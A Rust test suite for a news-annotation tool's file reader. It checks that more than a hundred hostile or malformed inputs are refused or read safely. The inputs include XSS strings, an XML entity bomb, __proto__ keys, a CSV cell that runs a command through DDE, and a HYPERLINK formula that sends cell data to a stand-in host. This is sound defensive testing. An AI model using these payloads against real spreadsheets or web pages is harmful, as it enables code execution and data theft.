//! Hostile files, stored entries and article texts. Each is refused with an error code or read correctly (`annotations+skipped`)
//! in limited time, and its content is unchanged after it is written and read again.
#![cfg(not(target_arch = "wasm32"))]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    missing_docs
)]

#[path = "format_support/mod.rs"]
mod support;

use std::time::{Duration, Instant};

use news_annotator::format::{Format, FormatError, Incoming, MAX_BYTES, decode, read, write, write_stored};
use news_annotator::model::{AnnotationId, Tag, Timestamp};
use news_annotator::session::{Action, Import, MergeInput, Origin, State, apply};
use quote_anchor::describe;
use quote_anchor::text::{ArticleText, Span};
use support::{document_of, now};

/// The time limit of a row. Each takes less than a second; the limit leaves room for other work on the machine, and quadratic
/// time exceeds it.
const TIME_LIMIT: Duration = Duration::from_secs(240);

/// The expected cell of the table, and the content if the file was read.
fn outcome(text: &str) -> (String, Option<Incoming>) {
    match read(text, now()) {
        Ok(incoming) => (format!("{}+{}", incoming.annotations.len(), incoming.skipped.len()), Some(incoming)),
        Err(error) => {
            assert!(error.to_string().len() > 20, "the message says what to do: {error}");
            (error.code().to_owned(), None)
        }
    }
}

/// A file of the project's own format with these annotations.
fn own(annotations: &str) -> String {
    format!(r#"{{"format":"news-annotations","version":1,"annotations":[{annotations}]}}"#)
}

/// A file of one annotation with these further members.
fn with(members: &str) -> String {
    own(&format!(r#"{{"id":"a","tag":"claim","quote":"words of a story",{members}}}"#))
}

fn rows() -> Vec<(&'static str, String, &'static str)> {
    let mut rows: Vec<(&'static str, String, &'static str)> = vec![];
    let mut add = |name: &'static str, text: String, expected: &'static str| rows.push((name, text, expected));
    let repeat = |text: &str, times: usize| text.repeat(times);
    let quote = r#"{"quote":"words of a story"}"#;

    // Not an annotation file.
    add("nothing", String::new(), "empty");
    add("one blank", " ".into(), "empty");
    add("line breaks", "\r\n\r\n".into(), "empty");
    add("a byte order mark alone", "\u{feff}".into(), "empty");
    add("a NUL", "\0".into(), "not-text");
    add("prose", "The council said nothing.".into(), "unknown-format");
    add("a page", "<!doctype html><script>alert(1)</script>".into(), "unknown-format");
    add(
        "XML with an entity bomb",
        r#"<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>"#.into(),
        "unknown-format",
    );
    add("a zip named .json", "PK\u{3}\u{4}\u{14}\0\u{8}\0".into(), "not-text");
    add("a PNG", "\u{fffd}PNG\r\n\u{1a}\n\0".into(), "not-text");
    add("a PDF", "%PDF-1.7\n%\u{fffd}\u{fffd}".into(), "not-text");
    add("gzip", "\u{1f}\u{fffd}\u{8}\0".into(), "not-text");
    add("a program", "\u{7f}ELF\u{2}\u{1}".into(), "not-text");
    add("JavaScript", "alert(1)".into(), "unknown-format");
    add("JSONP", format!("callback({})", own("")), "unknown-format");
    add("a guard against JSON hijacking", format!(")]}}',\n{}", own("")), "unknown-format");
    add("YAML", "format: news-annotations\nversion: 1\n".into(), "unknown-format");

    // Invalid JSON.
    add("one brace", "{".into(), "not-json");
    add("one bracket", "[".into(), "not-json");
    add("braces the wrong way round", "}{".into(), "unknown-format");
    add("a closing bracket too many", format!("{}]", own("")), "not-json");
    add("two files in one", format!("{}{}", own(""), own("")), "not-json");
    add("a trailing comma", own("{\"quote\":\"q\"},"), "not-json");
    add("comments", format!("{{/* x */{}", &own("")[1..]), "not-json");
    add("single quotes", "{'format':'news-annotations'}".into(), "not-json");
    add("names without quotes", "{format:1}".into(), "not-json");
    add("NaN", with(r#""start":NaN"#), "not-json");
    add("Infinity", with(r#""start":-Infinity"#), "not-json");
    add("a hexadecimal number", with(r#""start":0x10"#), "not-json");
    add("a number that begins with zero", with(r#""start":007"#), "not-json");
    add("a raw line break in a string", with("\"note\":\"a\nb\""), "not-json");
    add("a raw NUL in a string", with("\"note\":\"a\0b\""), "not-json");
    add("an unknown escape", with(r#""note":"\x41""#), "not-json");
    add("half an escape", with(r#""note":"\u12""#), "not-json");
    add("a string that does not end", r#"{"format":"news-annotations"#.into(), "not-json");
    add("a second byte order mark", format!("\u{feff}\u{feff}{}", own("")), "unknown-format");
    add("undefined", with(r#""note":undefined"#), "not-json");

    // Large, deep, many.
    add("a million open brackets", repeat("[", 1_000_000), "too-deep");
    add("a million open braces", repeat("{\"a\":", 1_000_000), "too-deep");
    add("a million pairs of brackets", format!("{}{}", repeat("[", 1_000_000), repeat("]", 1_000_000)), "too-deep");
    add(
        "brackets in brackets in an unknown member",
        with(&format!("\"x\":{}{}", repeat("[", 500), repeat("]", 500))),
        "too-deep",
    );
    add(
        "brackets of the maximal depth, and too deep when stored",
        format!(r#"[{{"quote":"words of a story","x":{}{}}}]"#, repeat("[", 126), repeat("]", 126)),
        "1+1",
    );
    add("a million brackets in a note", with(&format!("\"note\":\"{}\"", repeat("[", 1_000_000))), "1+0");
    add("a million empty arrays", own(&format!("{}[]", repeat("[],", 1_000_000))), "0+1000001");
    add("100 MB of blanks", repeat(" ", 100_000_000), "too-large");
    add("100 MB of a note", with(&format!("\"note\":\"{}\"", repeat("x", 100_000_000))), "too-large");
    add("one byte too large", repeat(" ", MAX_BYTES + 1), "too-large");
    add("the maximal size", repeat(" ", MAX_BYTES), "empty");
    add("1 MB of a note", with(&format!("\"note\":\"{}\"", repeat("x", 1_000_000))), "1+0");
    add("1 MB of a number", with(&format!("\"start\":{},\"end\":1", repeat("9", 1_000_000))), "1+0");
    add("1 MB of blanks inside", with(&format!("\"note\":{}\"x\"", repeat(" ", 1_000_000))), "1+0");
    add("a member's name of 1 MB", with(&format!("\"{}\":1", repeat("n", 1_000_000))), "1+0");
    add(
        "100,000 unknown members",
        with(&format!("{}\"z\":1", (0..100_000).map(|n| format!("\"x{n}\":{n},")).collect::<String>())),
        "1+0",
    );
    add(
        "the same member 100,000 times",
        with(&format!("{}\"note\":\"last\"", repeat("\"note\":\"x\",", 100_000))),
        "1+0",
    );
    add("10,000 on one word, nameless", format!("[{}{quote}]", repeat(&format!("{quote},"), 9_999)), "10000+0");
    add(
        "10,000 with one id",
        own(&format!("{0}{{\"id\":\"a\",\"quote\":\"q\"}}", repeat("{\"id\":\"a\",\"quote\":\"q\"},", 9_999))),
        "1+0",
    );
    add("100,000 ids in about", with(&format!("\"about\":[{}\"x\"]", repeat("\"x\",", 100_000))), "1+0");
    add(
        "100,000 bodies",
        format!(
            r#"{{"type":"Annotation","body":[{}"x"],"target":{{"selector":{{"exact":"q"}}}}}}"#,
            repeat("\"x\",", 100_000)
        ),
        "1+0",
    );
    add(
        "100,000 selectors",
        format!(r#"{{"type":"Annotation","target":{{"selector":[{}{{"exact":"q"}}]}}}}"#, repeat("{},", 100_000)),
        "1+0",
    );
    add(
        "100,000 targets",
        format!(r#"{{"type":"Annotation","target":[{}{{"selector":{{"exact":"q"}}}}]}}"#, repeat("\"x\",", 100_000)),
        "1+0",
    );
    add(
        "selectors that refine one another 60 deep",
        format!(r#"{{"target":{{"selector":{}{{"exact":"q"}}{}}}}}"#, repeat("{\"refinedBy\":", 60), repeat("}", 60)),
        "1+0",
    );

    // Property names of JavaScript.
    add("__proto__ as an id", own(r#"{"id":"__proto__","quote":"words of a story"}"#), "1+0");
    add("constructor as an id", own(r#"{"id":"constructor","quote":"words of a story"}"#), "1+0");
    add("toString as a tag", own(r#"{"id":"a","tag":"toString","quote":"words of a story"}"#), "1+0");
    add("__proto__ as a member", with(r#""__proto__":{"polluted":true}"#), "1+0");
    add(
        "__proto__ in the file",
        r#"{"__proto__":{"polluted":1},"format":"news-annotations","annotations":[]}"#.into(),
        "0+0",
    );
    add(
        "__proto__ in the article",
        r#"{"format":"news-annotations","article":{"__proto__":{"x":1},"url":"u"},"annotations":[]}"#.into(),
        "0+0",
    );
    add("a __proto__ that holds the quote", own(r#"{"id":"a","__proto__":{"quote":"q"}}"#), "0+1");
    add("hasOwnProperty as a member", with(r#""hasOwnProperty":1,"valueOf":2,"then":3"#), "1+0");
    add("toJSON as a member", with(r#""toJSON":"x""#), "1+0");

    // Markup and addresses.
    add("an id that is markup", own(r#"{"id":"<img src=x onerror=alert(1)>","quote":"words of a story"}"#), "1+0");
    add(
        "a tag that is markup",
        own(r#"{"id":"a","tag":"<script>alert(1)</script>","quote":"words of a story"}"#),
        "1+0",
    );
    add("a note with a script", with(r#""note":"<script>alert(1)</script>""#), "1+0");
    add("a note that ends a script", with(r#""note":"</script><script>alert(1)//""#), "1+0");
    add("a note that is a comment of HTML", with(r#""note":"<!-- --><svg onload=alert(1)>""#), "1+0");
    add(
        "an address that runs",
        r#"{"format":"news-annotations","article":{"url":"javascript:alert(1)"},"annotations":[]}"#.into(),
        "0+0",
    );
    add("an address that is data", r#"{"format":"news-annotations","article":{"url":"data:text/html,<script>alert(1)</script>"},"annotations":[]}"#.into(), "0+0");
    add(
        "a title that is markup",
        r#"{"format":"news-annotations","article":{"title":"<b onmouseover=alert(1)>"},"annotations":[]}"#.into(),
        "0+0",
    );
    add("an id with a quotation mark and a selector", own(r#"{"id":"a\"] , [x","quote":"words of a story"}"#), "1+0");
    add("an id with blanks and line breaks", own(r#"{"id":" a\n\tb ","quote":"words of a story"}"#), "1+0");
    add(
        "an id of 100,000 characters",
        own(&format!(r#"{{"id":"{}","quote":"words of a story"}}"#, repeat("i", 100_000))),
        "1+0",
    );
    add("a template of a site generator", with(r#""note":"{{ 7*7 }} {% raw %} ${7*7} <%= 7 %>""#), "1+0");

    // Characters.
    add("a lone high surrogate", with(r#""note":"a\ud800b""#), "1+0");
    add("a lone low surrogate", with(r#""note":"a\udfffb""#), "1+0");
    add("surrogates the wrong way round", with(r#""note":"\udc00\ud800""#), "1+0");
    add("a lone surrogate in a name", with(r#""x\ud800":1"#), "1+0");
    add("a lone surrogate in an id", own(r#"{"id":"\ud800","quote":"words of a story"}"#), "1+0");
    add("100,000 lone surrogates", with(&format!("\"note\":\"{}\"", repeat("\\udead", 100_000))), "1+0");
    add("an escaped NUL", with(r#""note":"a\u0000b""#), "1+0");
    add(
        "all controls",
        with(&format!("\"note\":\"{}\"", (0..32).map(|n| format!("\\u{n:04x}")).collect::<String>())),
        "1+0",
    );
    add("bidi controls", with("\"note\":\"\u{202e}txt.exe\u{202c}\u{2066}\u{2069}\u{200f}\""), "1+0");
    add("invisible characters", with("\"note\":\"a\u{200b}\u{200d}\u{2060}\u{feff}\u{ad}b\""), "1+0");
    add("tag characters", with("\"note\":\"\u{e0041}\u{e0042}\u{e007f}\""), "1+0");
    add("noncharacters", with("\"note\":\"\u{fdd0}\u{ffff}\u{10ffff}\""), "1+0");
    add("100,000 combining marks", with(&format!("\"note\":\"a{}\"", repeat("\u{301}", 100_000))), "1+0");
    add("line separators", with("\"note\":\"a\u{2028}b\u{2029}c\u{85}d\""), "1+0");
    add("a family of emoji", with("\"note\":\"👩‍👩‍👧‍👦🏳️‍🌈\""), "1+0");
    add("CRLF all over", own(&format!("\r\n{quote}\r\n")), "1+0");
    add("a byte order mark before it", format!("\u{feff}{}", own(quote)), "1+0");

    // Numbers and dates.
    add("start is negative", with(r#""start":-1,"end":5"#), "1+0");
    add("start is 2^32", with(r#""start":4294967296,"end":4294967297"#), "1+0");
    add("start is 2^53 + 1", with(r#""start":9007199254740993,"end":9007199254740994"#), "1+0");
    add("start is 1e400", with(r#""start":1e400,"end":1e401"#), "1+0");
    add("start is -0", with(r#""start":-0,"end":5"#), "1+0");
    add("start is a fraction", with(r#""start":1.5,"end":5"#), "1+0");
    add("end before start", with(r#""start":9,"end":5"#), "1+0");
    add("positions as strings", with(r#""start":"1","end":"5""#), "1+0");
    add("the end of the numbers", with(r#""start":0,"end":4294967295"#), "1+0");
    add("a date that is none", with(r#""created":"yesterday","modified":"32.13.2026""#), "1+0");
    add("the 30th of February", with(r#""modified":"2026-02-30T00:00:00Z""#), "1+0");
    add("a date of 100,000 digits", with(&format!("\"modified\":\"{}-01-01T00:00:00Z\"", repeat("9", 100_000))), "1+0");
    add("a date before all years", with(r#""modified":"-000001-01-01T00:00:00Z""#), "1+0");
    add("the last date", with(r#""modified":"9999-12-31T23:59:59.999Z""#), "1+0");
    add("a date beyond the last", with(r#""modified":"9999-12-31T23:59:59-23:59""#), "1+0");
    add("a date of non-ASCII digits", with("\"modified\":\"２０２６-01-01T00:00:00Z\""), "1+0");
    add("a date as a number", with(r#""modified":1790000000000"#), "1+0");
    add("a leap second", with(r#""modified":"2016-12-31T23:59:60Z""#), "1+0");

    // Versions and kinds.
    add("a newer version", r#"{"format":"news-annotations","version":2,"annotations":[]}"#.into(), "newer-version");
    add("version 1.5", r#"{"format":"news-annotations","version":1.5}"#.into(), "newer-version");
    add("version 0", r#"{"format":"news-annotations","version":0}"#.into(), "newer-version");
    add("version -1", r#"{"format":"news-annotations","version":-1}"#.into(), "newer-version");
    add("version null", r#"{"format":"news-annotations","version":null}"#.into(), "newer-version");
    add("the name of the format in capitals", r#"{"format":"NEWS-ANNOTATIONS","annotations":[]}"#.into(), "0+0");
    add("annotations is an object", r#"{"format":"news-annotations","annotations":{"0":{}}}"#.into(), "0+1");
    add("annotations of every wrong kind", own(r#"null,true,7,"x",[],{}"#), "0+6");
    add("a quote of every wrong kind", own(r#"{"quote":null},{"quote":7},{"quote":[]},{"quote":{}}"#), "0+4");
    add("an empty quote", own(r#"{"id":"a","quote":""}"#), "1+0");
    add("an annotation that is about itself", with(r#""about":["a","a"]"#), "1+0");
    add(
        "two that are about each other",
        own(r#"{"id":"a","quote":"q","about":["b"]},{"id":"b","quote":"q","about":["a"]}"#),
        "2+0",
    );
    add("about the unknown", with(r#""about":["nobody","",7,null,{}]"#), "1+0");
    add(
        "a geographic file",
        r#"{"type":"FeatureCollection","features":[{"type":"Feature"}]}"#.into(),
        "unknown-format",
    );
    add("a package.json", r#"{"name":"x","version":"1.0.0","scripts":{"install":"rm"}}"#.into(), "unknown-format");
    add("a number", "7".into(), "unknown-format");
    add("a string of JSON", "\"[]\"".into(), "unknown-format");
    add("a target that is null", r#"{"type":"Annotation","target":null}"#.into(), "unknown-format");
    add("a target that is a number", r#"{"type":"Annotation","target":7}"#.into(), "0+1");
    add("bodies of every kind", r#"{"type":"Annotation","body":[null,7,"x",[],{},{"value":null},{"value":{"a":1},"purpose":["tagging"]}],"target":{"selector":{"exact":"q"}}}"#.into(), "1+0");
    add(
        "a collection whose page is its own text",
        r#"{"type":"AnnotationCollection","first":"urn:x"}"#.into(),
        "unknown-format",
    );

    // Tables.
    add("a formula", "quote,note\r\nwords of a story,=1+1\r\n".into(), "1+0");
    add("a command", "quote,note\r\nwords of a story,\"=cmd|' /C calc'!A0\"\r\n".into(), "1+0");
    add(
        "an address that tells",
        "quote,note\r\nwords of a story,\"=HYPERLINK(\"\"http://x/\"\"&A1)\"\r\n".into(),
        "1+0",
    );
    add("a header alone", "quote".into(), "0+0");
    add("a header with a byte order mark", "\u{feff}quote\nwords of a story\n".into(), "1+0");
    add("a header twice", "quote,quote\none,two\n".into(), "1+0");
    add("a quotation mark that does not end", "quote\n\"words of a story\nand more".into(), "0+1");
    add("quotation marks in the middle of a cell", "quote\nwords \"of\" a story\n".into(), "1+0");
    add("a million quotation marks", format!("quote\n{}", repeat("\"", 1_000_000)), "1+0");
    add("a million commas", format!("quote\n{}\n", repeat(",", 1_000_000)), "0+0");
    add("a million empty rows", format!("quote\n{}", repeat("\n", 1_000_000)), "0+0");
    add("20,000 rows", format!("quote\n{}", repeat("words of a story\n", 20_000)), "20000+0");
    add("old Macintosh line ends", "quote\rwords of a story\rmore words of it\r".into(), "2+0");
    add("mixed line ends", "quote\r\nfirst words\nsecond words\rthird words\n".into(), "3+0");
    add("a NUL in a cell", "quote,note\nwords of a story,a\0b\n".into(), "1+0");
    add("tabs for commas", "quote\tnote\nwords of a story\tx\n".into(), "1+0");
    add("rows of other lengths", "id,tag,quote\na\na,claim\na,claim,words,more,cells\n".into(), "1+0");
    add("a cut-off end", "id,tag,quote\na,claim,words of a sto".into(), "1+0");
    add("a cut-off row", "id,tag,quote\na,cla".into(), "0+1");
    rows
}

#[test]
fn every_file_is_refused_or_read_correctly() {
    let rows = rows();
    assert!(rows.len() >= 120, "{} files", rows.len());
    let mut names = std::collections::HashSet::new();
    for (name, text, expected) in rows {
        assert!(names.insert(name), "{name} twice");
        let started = Instant::now();
        let (actual, incoming) = outcome(&text);
        assert_eq!(actual, expected, "{name}");
        let Some(incoming) = incoming else { continue };
        if text.len() > 100_000 {
            continue;
        }
        // The content survives in each format that is read back.
        let document = document_of(&incoming, now());
        for again in [write(Format::Json, &document), write_stored(&document)] {
            assert_eq!(read(&again, now()).unwrap().annotations, incoming.annotations, "{name}");
        }
        for format in [Format::W3c, Format::Csv] {
            let again = read(&write(format, &document), now()).unwrap();
            assert_eq!(again.annotations.len(), incoming.annotations.len(), "{name}, {}", format.name());
        }
        for report in [Format::Markdown, Format::Html] {
            assert!(!write(report, &document).contains("<script"), "{name}");
        }
        assert!(started.elapsed() < TIME_LIMIT, "{name} took {:?}", started.elapsed());
    }
}

#[test]
fn bytes_of_every_kind() {
    for (name, bytes, expected) in [
        ("ASCII", &b"{}"[..], Ok("{}")),
        ("UTF-8 with a mark", b"\xef\xbb\xbf{}", Ok("{}")),
        ("a cut-off character", b"{}\xe2\x82", Err("not-text")),
        ("a byte that never is", b"\xff{}", Err("not-text")),
        ("an overlong encoding", b"\xc0\x80", Err("not-text")),
        ("an encoded surrogate", b"\xed\xa0\x80", Err("not-text")),
        ("beyond Unicode", b"\xf4\x90\x80\x80", Err("not-text")),
        ("UTF-16, half a unit at its end", b"\xff\xfe{\0}\0x", Ok("{}")),
        ("UTF-16 with a lone surrogate", b"\xff\xfe\x00\xd8", Ok("\u{fffd}")),
        ("a mark alone", b"\xfe\xff", Ok("")),
        ("nothing", b"", Ok("")),
    ] {
        let decoded = decode(bytes);
        assert_eq!(decoded.as_deref().map_err(FormatError::code), expected, "{name}");
    }
    assert_eq!(decode(&vec![b' '; 100_000_000]).unwrap_err(), FormatError::TooLarge);
}

/// Annotates difficult articles, and places ten thousand annotations on one quote.
#[test]
fn hostile_articles_and_the_annotations_on_them() {
    let long = "The ministry said that it knows nothing of this. ".repeat(2_000);
    for (name, text) in [
        ("an empty article", String::new()),
        ("one character", "x".into()),
        ("white space", " \n\t\u{a0}\u{3000}".repeat(1_000)),
        ("combining marks", format!("a{} b", "\u{301}".repeat(5_000))),
        ("joined emoji", "👩\u{200d}".repeat(5_000)),
        ("flags", "🇨🇭".repeat(5_000)),
        ("bidi controls", "\u{202e}abc\u{202c}".repeat(2_000)),
        ("one word ten thousand times", "no ".repeat(10_000)),
        ("100,000 characters", long),
        ("noncharacters and NULs", "\u{ffff}\0\u{fdd0}".repeat(2_000)),
        ("line separators", "a\u{2028}b\u{2029}".repeat(2_000)),
    ] {
        let started = Instant::now();
        let article = std::rc::Rc::new(ArticleText::new(&text, []));
        let whole = article.span();
        let middle = Span::between(whole.end() / 2, (whole.end() / 2 + 3).min(whole.end()));
        drop(describe(&article, middle));
        let mut state = State::new(article);
        let annotate = Action::Annotate {
            id: AnnotationId::new("a"),
            span: middle,
            tag: Tag::Claim,
            note: String::new(),
            about: vec![],
            source: String::new(),
            creator: None,
            pieces: vec![],
            linked_from: vec![],
            at: Timestamp::default(),
        };
        if let Ok(applied) = apply(&state, annotate) {
            state = applied.state;
            let merge = Action::from(MergeInput::new(state.notebook().as_ref().clone(), Origin::Storage));
            let reread = apply(&State::new(std::rc::Rc::clone(state.text())), merge).unwrap().state;
            let found = reread.placed()[0].outcome.span;
            assert!(found.is_none() || found == state.placed()[0].outcome.span, "{name}: at its position, or orphaned");
        }
        assert!(started.elapsed() < TIME_LIMIT, "{name} took {:?}", started.elapsed());
    }
    let word = r#"{"quote":"nothing of this"}"#;
    let file = format!("[{}{word}]", format!("{word},").repeat(9_999));
    let started = Instant::now();
    let state = State::new(std::rc::Rc::new(ArticleText::new("The ministry said that it knows nothing of this.", [])));
    let import = Import::new(&state, read(&file, now()).unwrap(), &Default::default()).unwrap();
    assert_eq!((import.summary.added, import.summary.orphaned), (10_000, 0));
    assert!(started.elapsed() < TIME_LIMIT, "10,000 on one word took {:?}", started.elapsed());
}
